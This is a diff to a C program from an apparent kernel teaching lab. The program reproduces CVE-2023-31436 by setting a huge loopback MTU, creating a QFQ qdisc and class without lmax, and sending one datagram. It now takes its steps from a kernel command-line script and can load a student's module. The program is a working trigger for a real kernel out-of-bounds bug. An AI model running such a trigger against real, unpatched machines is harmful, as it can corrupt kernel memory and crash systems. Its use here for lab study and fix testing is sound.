@@ -26,6 +26,18 @@
  * qfq_activate_agg() reads that group (vm/init/expected.toml says what
  * each variant's KASAN reports).
  *
+ * The steps are a script, "kt_qfq=ITEM,ITEM,..." on the kernel command line
+ * (the default is the public report's: mtu:600000,qdisc,class:1,send:1):
+ *
+ *   mtu:N     lo's MTU to N, lo up, and the prediction for that MTU
+ *   qdisc     the qfq qdisc 1: as lo's root
+ *   class:N   create class 1:N, weight 1, no TCA_QFQ_LMAX (or change it:
+ *             it takes its lmax from the MTU again)
+ *   send:N    one datagram of priority 1:N
+ *   student   load /lib/modules/student_qfq.ko (lab 9's exercise 9.2: the
+ *             student's sch_qfq.c, whose qdisc is "qfq-student") and use
+ *             that qdisc from then on
+ *
  * Every step prints one machine-readable line, "qfq-lmax: <event> key=value
  * ...", between the KT-SCENARIO-BEGIN/END markers of a lab scenario; the
  * "access" line comes just before the system call that makes the kernel
@@ -52,8 +64,10 @@
 #define IFF_UP 0x1
 
 #define LO_IFINDEX 1		/* LOOPBACK_IFINDEX: lo is always 1 */
-#define LO_MTU 600000		/* lmax 600014: group 25 (see calc_index()) */
-#define PRIO 0x10001		/* class 1:1 of qdisc 1: */
+#define SCRIPT "mtu:600000,qdisc,class:1,send:1"	/* lmax 600014: group 25 */
+#define PRIO 0x10000		/* + N: class 1:N of qdisc 1: */
+#define STUDENT_KO "/lib/modules/student_qfq.ko"
+#define STUDENT_KIND "qfq-student"	/* labs/module/qfq_student.h */
 #define PORT 5202
 #define PAYLOAD "CVE-2023-31436\n"
 
@@ -83,6 +97,9 @@ struct tc_req {
 };
 
 static char reply[4096];
+static char cmdline[4096];
+static const char *kind = "qfq";	/* the qdisc the script makes */
+static long nl = -1;			/* the rtnetlink socket, once opened */
 
 static long sys_socket(int domain, int type, int proto)
 {
@@ -207,18 +224,18 @@ static long talk(long nl, struct tc_req *r, const char **msg)
 	return e->error;
 }
 
-static void set_up_lo(long fd)
+static void set_mtu(long fd, int mtu)
 {
 	struct lab_ifreq ifr;
 	long ret;
 	int txqlen;
 
-	ifr.mtu = LO_MTU;
+	ifr.mtu = mtu;
 	ret = lo_ioctl(fd, SIOCSIFMTU, &ifr);
 	if (ret)
 		fail("SIOCSIFMTU lo", ret);
 	ret = lo_ioctl(fd, SIOCGIFMTU, &ifr);
-	printf("%s: mtu dev=lo set=%d ret=%ld mtu=%d\n", SCN, LO_MTU, ret, ifr.mtu);
+	printf("%s: mtu dev=lo set=%d ret=%ld mtu=%d\n", SCN, mtu, ret, ifr.mtu);
 	ret = lo_ioctl(fd, SIOCGIFFLAGS, &ifr);
 	if (ret)
 		fail("SIOCGIFFLAGS lo", ret);
@@ -232,46 +249,78 @@ static void set_up_lo(long fd)
 	txqlen = ifr.qlen;
 	if (ret)
 		fail("SIOCGIFTXQLEN lo", ret);
-	calc_index(LO_MTU, txqlen);
+	calc_index(mtu, txqlen);
 }
 
-/* Steps 2 and 3: the qdisc (it must exist) and the class (it may not). */
-static long set_up_qfq(void)
+/* The rtnetlink socket, opened at the first request that needs it. */
+static long rtnl(void)
 {
-	struct tc_req r;
-	struct nlattr *opts;
-	const char *msg;
-	unsigned int weight = 1;
-	long nl, ret;
-
+	if (nl >= 0)
+		return nl;
 	nl = sys_socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
 	if (nl < 0)
 		fail("socket(AF_NETLINK)", nl);
 	sys_setsockopt(nl, SOL_NETLINK, NETLINK_EXT_ACK, 1);
 	sys_setsockopt(nl, SOL_NETLINK, NETLINK_CAP_ACK, 1);
+	return nl;
+}
+
+/* Step 2: the qdisc (it must exist). */
+static void make_qdisc(void)
+{
+	struct tc_req r;
+	const char *msg;
+	long ret;
 
 	init_req(&r, RTM_NEWQDISC, 1, TC_H_MAKE(1 << 16, 0), TC_H_ROOT);
-	add_attr(&r, TCA_KIND, "qfq", 4);
-	ret = talk(nl, &r, &msg);
-	printf("%s: qdisc dev=lo kind=qfq handle=1: parent=root ret=%ld msg=\"%s\"\n",
-	       SCN, ret, msg);
+	add_attr(&r, TCA_KIND, kind, strlen(kind) + 1);
+	ret = talk(rtnl(), &r, &msg);
+	printf("%s: qdisc dev=lo kind=%s handle=1: parent=root ret=%ld msg=\"%s\"\n",
+	       SCN, kind, ret, msg);
 	if (ret)
 		fail("RTM_NEWQDISC qfq (is CONFIG_NET_SCH_QFQ=y?)", ret);
+}
 
-	init_req(&r, RTM_NEWTCLASS, 2, TC_H_MAKE(1 << 16, 1), TC_H_MAKE(1 << 16, 0));
+/*
+ * Step 3: class 1:@minor (it may be refused).  Without NLM_F_EXCL, a class
+ * that exists is changed: qfq_change_class() takes its lmax again.
+ */
+static long make_class(unsigned int minor)
+{
+	struct tc_req r;
+	struct nlattr *opts;
+	const char *msg;
+	unsigned int weight = 1;
+	long ret;
+
+	init_req(&r, RTM_NEWTCLASS, 2, TC_H_MAKE(1 << 16, minor), TC_H_MAKE(1 << 16, 0));
+	r.nh.nlmsg_flags &= ~NLM_F_EXCL;
 	opts = (struct nlattr *)((char *)&r + NLMSG_ALIGN(r.nh.nlmsg_len));
 	add_attr(&r, TCA_OPTIONS | NLA_F_NESTED, NULL, 0);
 	add_attr(&r, TCA_QFQ_WEIGHT, &weight, sizeof(weight));
 	opts->nla_len = (char *)&r + r.nh.nlmsg_len - (char *)opts;
-	ret = talk(nl, &r, &msg);
-	printf("%s: class dev=lo classid=1:1 weight=%u lmax=none ret=%ld msg=\"%s\"\n",
-	       SCN, weight, ret, msg);
-	close(nl);
+	ret = talk(rtnl(), &r, &msg);
+	printf("%s: class dev=lo classid=1:%u weight=%u lmax=none ret=%ld msg=\"%s\"\n",
+	       SCN, minor, weight, ret, msg);
 	return ret;
 }
 
-/* Step 4: one datagram to a socket of our own, through qdisc 1: */
-static void send_one(void)
+/* Exercise 9.2: the student's QFQ, a module beside the kernel's own. */
+static void load_student(void)
+{
+	int fd = open(STUDENT_KO, O_RDONLY, 0);
+	long ret = fd < 0 ? fd : my_syscall3(__NR_finit_module, fd, "", 0);
+
+	if (fd >= 0)
+		close(fd);
+	printf("%s: module name=student_qfq kind=%s ret=%ld\n", SCN, STUDENT_KIND, ret);
+	if (ret)
+		fail("finit_module " STUDENT_KO, ret);
+	kind = STUDENT_KIND;
+}
+
+/* Step 4: one datagram of priority 1:@minor to a socket of our own. */
+static void send_one(unsigned int minor)
 {
 	struct sockaddr_in sa = {
 		.sin_family = AF_INET,
@@ -287,11 +336,11 @@ static void send_one(void)
 	ret = my_syscall3(__NR_bind, rx, &sa, sizeof(sa));
 	if (ret)
 		fail("bind 127.0.0.1", ret);
-	ret = sys_setsockopt(tx, SOL_SOCKET, SO_PRIORITY, PRIO);
+	ret = sys_setsockopt(tx, SOL_SOCKET, SO_PRIORITY, PRIO + minor);
 	if (ret)
 		fail("SO_PRIORITY", ret);
-	printf("%s: access send to=127.0.0.1:%d prio=0x%x bytes=%d\n", SCN, PORT, PRIO,
-	       (int)sizeof(PAYLOAD) - 1);
+	printf("%s: access send to=127.0.0.1:%d prio=0x%x bytes=%d\n", SCN, PORT,
+	       PRIO + minor, (int)sizeof(PAYLOAD) - 1);
 	ret = sys_sendto(tx, PAYLOAD, sizeof(PAYLOAD) - 1, 0, &sa, sizeof(sa));
 	printf("%s: sent ret=%ld\n", SCN, ret);
 	/* lo hands the datagram over before sendto() returns (softirq) */
@@ -301,19 +350,89 @@ static void send_one(void)
 	close(rx);
 }
 
+/* The length of the item at @s: up to a comma, a space or the end. */
+static size_t item_len(const char *s)
+{
+	size_t n = 0;
+
+	while (s[n] && s[n] != ',' && s[n] != ' ' && s[n] != '\n')
+		n++;
+	return n;
+}
+
+/* The script: kt_qfq= of the kernel command line, else SCRIPT. */
+static const char *script(void)
+{
+	int fd = open("/proc/cmdline", O_RDONLY, 0);
+	long n = fd < 0 ? -1 : read(fd, cmdline, sizeof(cmdline) - 1);
+	char *p;
+
+	if (fd >= 0)
+		close(fd);
+	cmdline[n > 0 ? n : 0] = '\0';
+	for (p = cmdline; *p; p++) {
+		if ((p == cmdline || p[-1] == ' ') && !strncmp(p, "kt_qfq=", 7)) {
+			char *start = p + 7, *end = start;
+
+			while (*end && *end != ' ' && *end != '\n')
+				end++;
+			*end = '\0';
+			return start;
+		}
+	}
+	return SCRIPT;
+}
+
+/* The number after "name:" in @item, or -1 when @item is not one. */
+static long item_arg(const char *item, const char *name)
+{
+	size_t len = strlen(name);
+
+	if (strncmp(item, name, len) || item[len] != ':')
+		return -1;
+	return atol(item + len + 1);
+}
+
+/* One item of the script; a class step's answer goes to *@class. */
+static void run_item(long fd, const char *item, long *class)
+{
+	if (item_arg(item, "mtu") > 0)
+		set_mtu(fd, item_arg(item, "mtu"));
+	else if (!strcmp(item, "qdisc"))
+		make_qdisc();
+	else if (item_arg(item, "class") > 0)
+		*class = make_class(item_arg(item, "class"));
+	else if (item_arg(item, "send") > 0)
+		send_one(item_arg(item, "send"));
+	else if (!strcmp(item, "student"))
+		load_student();
+	else
+		fail("kt_qfq: unknown step (mtu:N, qdisc, class:N, send:N, student)", -22);
+}
+
 int main(void)
 {
-	long fd, class;
+	const char *next = script();
+	long fd, class = 0;
+	char item[32];
+	size_t len;
 
 	printf("KT-SCENARIO-BEGIN %s\n", SCN);
 	printf("%s: begin cve=CVE-2023-31436 fix=3037933448f6\n", SCN);
 	fd = sys_socket(AF_INET, SOCK_DGRAM, 0);
 	if (fd < 0)
 		fail("socket(AF_INET) (a kernel without CONFIG_NET?)", fd);
-	set_up_lo(fd);
+	while (*next) {
+		len = item_len(next);
+		memcpy(item, next, len < sizeof(item) ? len : sizeof(item) - 1);
+		item[len < sizeof(item) ? len : sizeof(item) - 1] = '\0';
+		next += len;
+		next += *next == ',';
+		run_item(fd, item, &class);
+	}
 	close(fd);
-	class = set_up_qfq();
-	send_one();
+	if (nl >= 0)
+		close(nl);
 	printf("%s: end class=%ld\n", SCN, class);
 	printf("KT-SCENARIO-END %s\n", SCN);
 	return 0;
